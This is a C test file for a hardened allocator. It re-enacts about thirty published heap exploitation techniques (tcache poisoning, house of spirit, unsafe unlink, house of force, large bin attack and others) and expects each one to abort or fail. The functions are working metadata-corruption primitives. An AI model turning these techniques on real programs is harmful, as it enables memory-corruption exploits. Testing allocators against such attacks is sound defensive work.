/* attacks.c: the known ways to turn a small overflow, a stale pointer or a double free into an arbitrary write or an arbitrary malloc, each
 * after its public description (the names are those of the how2heap collection). Each is tried as it works on a classic heap, with the thread
 * cache and without; it must end in an abort, or do nothing that helps the attacker.
 * SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
#include "abuse.h"
#include <malloc.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

/* What the attacker is after. Chunk-shaped here and there, so that no size check stops the attack early. */
static _Alignas(64) uint64_t target[512];

static bool in_target(const void *p) { return (uintptr_t)p >= (uintptr_t)target && (uintptr_t)p < (uintptr_t)(target + 512); }

static void check(const void *p) {
    if (in_target(p)) attack_won("malloc returned the attacker's address");
}

static bool overlap(const void *a, size_t n, const void *b, size_t m) {
    return (const char *)a < (const char *)b + m && (const char *)b < (const char *)a + n;
}

static void check_written(const uint64_t *p, uint64_t was) {
    if (*p != was) attack_won("the allocator wrote through a forged pointer");
}

/* Safe linking, which an attacker who knows the address can undo. */
static uint64_t mangled(const void *at, const void *to) { return (uint64_t)at >> 12 ^ (uint64_t)to; }

static void take_some(size_t n, int count) {
    for (int i = 0; i < count; i++) check(take(n));
}

/* Fills what a thread cache would swallow of this size, so that later frees go further. */
static void *filler[512];

static void fillers(size_t n) {
    for (int i = 0; i < 512; i++) filler[i] = take(n);
}

static void free_fillers(void) {
    for (int i = 0; i < 512; i++) give(filler[i]);
}

static void tcache_poisoning(uint64_t (*link)(const void *, const void *)) {
    uint64_t *a = take(128), *b = take(128);
    give(a);
    give(b);
    target[1] = 0x91;
    b[0] = link ? link(b, target + 2) : (uint64_t)(target + 2);
    take_some(128, 400);
}

static void tcache_poisoning_plain(void) { tcache_poisoning(NULL); }

static void tcache_poisoning_mangled(void) { tcache_poisoning(mangled); }

static void house_of_spirit(void) {
    target[9] = 0x41;
    target[17] = 0x41;
    about(target + 10);
    give(target + 10);
    take_some(48, 4);
}

static void house_of_spirit_large(void) {
    target[9] = 0x421;
    target[9 + 0x420 / 8] = 0x21;
    target[9 + 0x440 / 8] = 0x21;
    about(target + 10);
    give(target + 10);
    take_some(0x410, 4);
}

/* The header before the fake block copied from a true one. */
static void house_of_spirit_copied(void) {
    void *p = take(48);
    memcpy(target + 9, head_of(p), 8);
    target[17] = 0x41;
    about(target + 10);
    give(target + 10);
    take_some(48, 4);
}

static void fastbin_dup(void) {
    fillers(8);
    void *a = take(8), *b = take(8);
    free_fillers();
    about(a);
    give(a);
    give(b);
    give(a);
    void *p[600];
    for (int i = 0; i < 600; i++) {
        p[i] = take(8);
        for (int j = 0; j < i; j++)
            if (p[i] == p[j]) attack_won("malloc returned a block twice");
    }
}

static void fastbin_dup_into_stack(void) {
    uint64_t *a = take(8), *b = take(8);
    about(a);
    give(a);
    give(b);
    give(a);
    uint64_t *p = take(8);
    take(8);
    target[1] = 0x21;
    p[0] = mangled(p, target);
    take_some(8, 8);
}

/* A freed fast block's link leads to the target, and a refill of the cache takes the whole list. */
static void fastbin_reverse_into_tcache(void) {
    fillers(64);
    free_fillers();
    for (int i = 0; i < 512; i += 2) {
        uint64_t *p = filler[i];
        p[0] = mangled(p, target);
    }
    target[1] = 0x51;
    take_some(64, 600);
    check_written(&target[2], 0);
    check_written(&target[3], 0);
}

static uint64_t *victim; /* the global pointer that unlink is to overwrite */

static void unsafe_unlink(void) {
    void *b[3];
    adjacent(0x420, b, 3);
    victim = b[0];
    /* A free chunk inside the block, whose links lead to the pointer to it. */
    victim[0] = 0;
    victim[1] = 0x420;
    victim[2] = (uint64_t)&victim - 24;
    victim[3] = (uint64_t)&victim - 16;
    uint64_t *head = head_of(b[1]);
    head[-1] = 0x420;
    *head &= ~(uint64_t)1;
    about(b[1]);
    give(b[1]);
    if (victim != b[0]) attack_won("unlink wrote through forged links");
}

/* One zero byte past the end clears P of the next chunk; the forged foot leads back over a block in use. */
static void poison_null_byte(void) {
    void *b[4];
    adjacent(0x4f8, b, 4);
    char *used = b[1];
    memset(used, 'u', 0x4f8);
    give(b[0]);
    ((uint64_t *)b[2])[-2] = 2 * chunk_bytes(0x4f8);
    *(char *)head_of(b[2]) = 0;
    about(b[2]);
    about(b[0]);
    give(b[2]);
    char *p = take(2 * chunk_bytes(0x4f8) - 8);
    if (overlap(p, 2 * chunk_bytes(0x4f8) - 8, used, 0x4f8)) attack_won("malloc returned memory in use");
}

static void house_of_einherjar(void) {
    void *b[3];
    adjacent(0x4f8, b, 3);
    uint64_t *fake = b[0];
    size_t size = (size_t)((char *)b[1] - 16 - (char *)fake);
    fake[0] = 0;
    fake[1] = size;
    fake[2] = fake[3] = fake[4] = fake[5] = (uint64_t)fake;
    ((uint64_t *)b[1])[-2] = size;
    *(char *)head_of(b[1]) = 0;
    about(b[1]);
    give(b[1]);
    for (int i = 0; i < 8; i++) {
        char *p = take(0x900);
        if (overlap(p, 0x900, b[0], 0x4f8)) attack_won("malloc returned memory in use");
    }
}

/* The last block before the top, and the top's header. */
static uint64_t *top_head(void) {
    struct seemalloc_chunk top;
    take(3000);
    if (!find_state(SEEMALLOC_TOP, &top)) not_reached("there is no top");
    about(top.mem);
    return head_of((void *)top.mem);
}

static void house_of_force(void) {
    uint64_t *head = top_head();
    *head = ~(uint64_t)0;
    size_t distance = (uintptr_t)target - (uintptr_t)head - 64;
    take(distance);
    take_some(3000, 4);
}

/* The top made smaller, as the system's page alignment demands: growing then frees the rest of it, without any free by the program. */
static void house_of_tangerine(void) {
    uint64_t *head = top_head();
    uint64_t end = (uint64_t)(head + 1) + (*head & 0xfffffffffff0) - 16;
    uint64_t left = (end - (uint64_t)(head - 1)) & 0xfff;
    if (left < 64) left += 0x1000;
    *head = left | 1;
    take(0x20000 - 0x1000);
    struct seemalloc_chunk c;
    if (find_chunk(head + 1, &c) && c.state != SEEMALLOC_TOP) attack_won("a part of the top was freed");
}

static void sysmalloc_int_free(void) {
    uint64_t *head = top_head();
    *head = (*head & ~(uint64_t)0xffffffffffff) | 0xc01;
    take(0x10000);
    struct seemalloc_chunk c;
    if (find_chunk(head + 1, &c) && c.state != SEEMALLOC_TOP && c.size == 0xc00) attack_won("a part of the top was freed");
}

static void unsorted_bin_attack(void) {
    uint64_t *p = take(0x410);
    take(500);
    about(p);
    give(p);
    p[1] = (uint64_t)(target + 4 - 2);
    take(0x410);
    check_written(target + 4, 0);
}

static void unsorted_bin_into_stack(void) {
    uint64_t *p = take(0x100);
    take(0x100);
    about(p);
    give(p);
    target[1] = 0x111;
    target[3] = (uint64_t)target;
    p[1] = (uint64_t)target;
    take_some(0x100, 4);
    check_written(target + 2, 0);
}

static void large_bin_attack(void) {
    uint64_t *a = take(0x428);
    take(24);
    uint64_t *b = take(0x418);
    take(24);
    about(a);
    about(b);
    give(a);
    take(0x438);
    give(b);
    a[3] = (uint64_t)(target + 16 - 4); /* bk_nextsize */
    take(0x438);
    check_written(target + 16, 0);
    take_some(0x418, 4);
    check_written(target + 16, 0);
}

static void large_bin_attack_bk(void) {
    uint64_t *a = take(0x428);
    take(24);
    uint64_t *b = take(0x418);
    take(24);
    about(a);
    about(b);
    give(b);
    take(0x438);
    give(a);
    b[1] = (uint64_t)(target + 16 - 2);
    b[3] = (uint64_t)(target + 32 - 4);
    take(0x438);
    check_written(target + 16, 0);
    check_written(target + 32, 0);
    take_some(0x428, 4);
    check_written(target + 16, 0);
    check_written(target + 32, 0);
}

/* A block that merged into its neighbour is freed once more, into the cache this time. */
static void house_of_botcake(void) {
    fillers(0x100);
    void *b[3];
    adjacent(0x100, b, 3);
    about(b[1]);
    free_fillers();
    give(b[1]);
    give(b[0]);
    take(0x100);
    give(b[1]);
    void *q = take(0x100);
    for (int i = 0; i < 600; i++)
        if (overlap(take(0x120), 0x120, q, 0x100)) attack_won("malloc returned memory in use");
}

static void overlapping_chunks(void) {
    void *b[4];
    adjacent(0x4f8, b, 4);
    memset(b[2], 'u', 0x4f8);
    about(b[1]);
    give(b[1]);
    *head_of(b[1]) += chunk_bytes(0x4f8);
    for (int i = 0; i < 4; i++) {
        void *p = take(2 * chunk_bytes(0x4f8) - 8);
        if (overlap(p, 2 * chunk_bytes(0x4f8) - 8, b[2], 0x4f8)) attack_won("malloc returned memory in use");
    }
}

static void overlapping_chunks_2(void) {
    void *b[5];
    adjacent(1000, b, 5);
    memset(b[2], 'u', 1000);
    give(b[3]);
    *head_of(b[1]) += chunk_bytes(1000);
    about(b[1]);
    give(b[1]);
    for (int i = 0; i < 4; i++) {
        void *p = take(2000);
        if (overlap(p, 2000, b[2], 1000)) attack_won("malloc returned memory in use");
    }
}

/* A mapped block that claims to reach over its neighbour: free must not unmap what it does not own. */
static void mmap_overlapping_chunks(void) {
    enum { SIZE = 40 << 20 };
    void *p[3];
    for (int i = 0; i < 3; i++) p[i] = take(SIZE);
    for (int i = 0; i < 3; i++) {
        for (int j = 0; j < 3; j++) {
            if (p[j] < p[i]) continue;
            memset(p[j], 'u', 4096);
        }
    }
    /* The lowest one grows over the next. */
    void *low = p[0], *next = p[0];
    for (int i = 1; i < 3; i++)
        if (p[i] < low) low = p[i];
    for (int i = 0; i < 3; i++)
        if (p[i] != low && (next == low || p[i] < next)) next = p[i];
    *head_of(low) += (uint64_t)((char *)next - (char *)low);
    about(low);
    give(low);
    unsigned char resident;
    void *page = (void *)((uintptr_t)next & ~(uintptr_t)4095);
    if (mincore(page, 4096, &resident) != 0) attack_won("free unmapped a block in use");
}

static void mmap_overlapping_realloc(void) {
    enum { SIZE = 40 << 20 };
    char *p = take(SIZE);
    *head_of(p) += SIZE;
    about(p);
    char *q = retake(p, (size_t)3 * SIZE);
    if (!q) not_reached("out of memory");
    unsigned char resident;
    if (mincore(q + (size_t)2 * SIZE, 4096, &resident) != 0) attack_won("realloc moved less than it promised");
}

/* A small bin's oldest chunk says that the one before it is the target, which says so as well. */
static void house_of_lore(void) {
    fillers(0x100);
    take(1000);
    uint64_t *p = take(0x100);
    take(1000);
    about(p);
    free_fillers();
    give(p);
    take(1200);
    uint64_t *fake = target, *fake2 = target + 32;
    fake[1] = fake2[1] = 0x111;
    fake[2] = (uint64_t)(p - 2);
    fake[3] = (uint64_t)fake2;
    fake2[2] = (uint64_t)fake;
    fake2[3] = (uint64_t)fake2;
    p[1] = (uint64_t)fake;
    take_some(0x100, 700);
    check_written(fake2 + 2, (uint64_t)fake);
}

static void stashing_unlink(void *(*allocate)(size_t)) {
    enum { N = 6000 };
    static uint64_t *p[N];
    for (int i = 0; i < N; i++) p[i] = take(0x90);
    for (int i = 0; i < N; i += 2) give(p[i]);
    for (int i = 0; i < 400; i++) take(0x1000); /* sorts what is unsorted, a bounded number at a time */
    uint64_t *c = NULL;
    for (int i = 0; i < N && !c; i += 2)
        if (state_of(p[i]) == SEEMALLOC_SMALL) c = p[i];
    if (!c) not_reached("no block came into a small bin");
    for (int i = 0; i < N; i += 2)
        if ((uint64_t)p[i] >> 14 == (uint64_t)c >> 14) about(p[i]);
    target[1] = 0xa1;
    target[2] = (uint64_t)(c - 2);
    target[3] = (uint64_t)(target + 64); /* gets fd written */
    c[1] = (uint64_t)target;
    for (int i = 0; i < N; i++) check(allocate(0x90));
    check_written(target + 66, 0);
}

static void stashing_unlink_malloc(void) { stashing_unlink(take); }

static void *zeroed(size_t n) {
    void *(*volatile f)(size_t, size_t) = calloc;
    return f(1, n);
}

static void stashing_unlink_calloc(void) { stashing_unlink(zeroed); }

/* The arena taken from what the block's header says: a forged one would lead to an arena that the attacker made. */
static void house_of_mind(void) {
    uint64_t *p = take(0x60);
    about(p);
    *head_of(p) |= 4;
    give(p);
}

/* Metadata of the cache among the chunks is the base of several attacks (cache metadata poisoning, hijacking, house of water): no word of the
 * heap may point to a cached block, so no overflow can reach what says where the next malloc comes from. */
static void metadata_in_heap(void) {
    void *p[100];
    for (int i = 0; i < 100; i++) p[i] = take(200);
    struct seemalloc_chunk c, top;
    if (!find_chunk(p[0], &c) || !find_state(SEEMALLOC_TOP, &top)) not_reached("no chunk starts here");
    uintptr_t start = (uintptr_t)p[0];
    while (find_chunk((void *)start, &c) && c.prev_size) start -= c.prev_size;
    uintptr_t end = (uintptr_t)top.mem;
    for (int i = 0; i < 100; i += 2) give(p[i]);
    for (int i = 0; i < 100; i += 2) {
        if (state_of(p[i]) != SEEMALLOC_CACHED) continue;
        for (uintptr_t at = start; at < end; at += 8)
            if (*(uintptr_t *)at == (uintptr_t)p[i] || *(uintptr_t *)at == (uintptr_t)p[i] - 16)
                attack_won("the heap says where a cached block is");
    }
}

/* What stands in a freed block tells nobody where anything is (safe-link decryption needs a link). */
static void freed_block_tells_no_address(void) {
    uintptr_t *p[20];
    for (int i = 0; i < 20; i++) {
        p[i] = take(200);
        memset(p[i], 0, 200);
    }
    for (int i = 0; i < 20; i++) give(p[i]);
    for (int i = 0; i < 20; i++) {
        struct seemalloc_chunk chunk; /* some went to the bins and merged */
        if (!find_chunk(p[i], &chunk) || (chunk.state != SEEMALLOC_CACHED && chunk.state != SEEMALLOC_PARKED)) continue;
        for (int word = 0; word < 25; word++) {
            uintptr_t a = ((volatile uintptr_t *)p[i])[word];
            if (a >> 20 == (uintptr_t)p[0] >> 20 || a >> 20 == (uintptr_t)malloc >> 20) attack_won("a cached block holds an address");
        }
    }
}

#define ATTACK (ABUSE_ANY | ABUSE_SURVIVE_OK | ABUSE_SEAL)
#define BOTH(name, function)                                                                                                               \
    {name, function, ATTACK, {0}}, {                                                                                                       \
        name ", cache off", function, ATTACK | ABUSE_CACHE_OFF, { 0 }                                                                      \
    }

const struct abuse_case abuse_cases[] = {
    BOTH("tcache poisoning", tcache_poisoning_plain),
    BOTH("tcache poisoning, safe-linked", tcache_poisoning_mangled),
    {"house of spirit", house_of_spirit, ABUSE_SEAL, {"free(): invalid pointer"}},
    {"house of spirit, large", house_of_spirit_large, ABUSE_SEAL, {"free(): invalid pointer"}},
    {"house of spirit, copied header", house_of_spirit_copied, ABUSE_SEAL, {"free(): invalid pointer"}},
    {"house of spirit, cache off", house_of_spirit, ABUSE_SEAL | ABUSE_CACHE_OFF, {"free(): invalid pointer"}},
    BOTH("fastbin dup", fastbin_dup),
    BOTH("fastbin dup into stack", fastbin_dup_into_stack),
    BOTH("fastbin reverse into tcache", fastbin_reverse_into_tcache),
    {"unsafe unlink", unsafe_unlink, ABUSE_SEAL, {"free(): invalid pointer"}},
    {"unsafe unlink, cache off", unsafe_unlink, ABUSE_SEAL | ABUSE_CACHE_OFF, {"free(): invalid pointer"}},
    BOTH("poison null byte", poison_null_byte),
    BOTH("house of einherjar", house_of_einherjar),
    BOTH("house of force", house_of_force),
    BOTH("house of tangerine", house_of_tangerine),
    BOTH("sysmalloc int free", sysmalloc_int_free),
    BOTH("unsorted bin attack", unsorted_bin_attack),
    BOTH("unsorted bin into stack", unsorted_bin_into_stack),
    BOTH("large bin attack", large_bin_attack),
    BOTH("large bin attack, bk", large_bin_attack_bk),
    BOTH("house of botcake", house_of_botcake),
    BOTH("overlapping chunks", overlapping_chunks),
    BOTH("overlapping chunks 2", overlapping_chunks_2),
    {"mmap overlapping chunks", mmap_overlapping_chunks, ABUSE_SEAL, {"munmap_chunk(): invalid pointer", "free(): invalid pointer"}},
    {"mmap overlapping chunks, realloc", mmap_overlapping_realloc, ATTACK, {0}},
    BOTH("house of lore", house_of_lore),
    {"stashing unlink", stashing_unlink_malloc, ATTACK, {0}},
    {"stashing unlink, calloc", stashing_unlink_calloc, ATTACK, {0}},
    {"house of mind", house_of_mind, ABUSE_SEAL, {"free(): invalid pointer"}},
    {"cache metadata out of the heap", metadata_in_heap, ABUSE_SURVIVE, {0}},
    {"freed block tells no address", freed_block_tells_no_address, ABUSE_SURVIVE, {0}},
    {0},
};
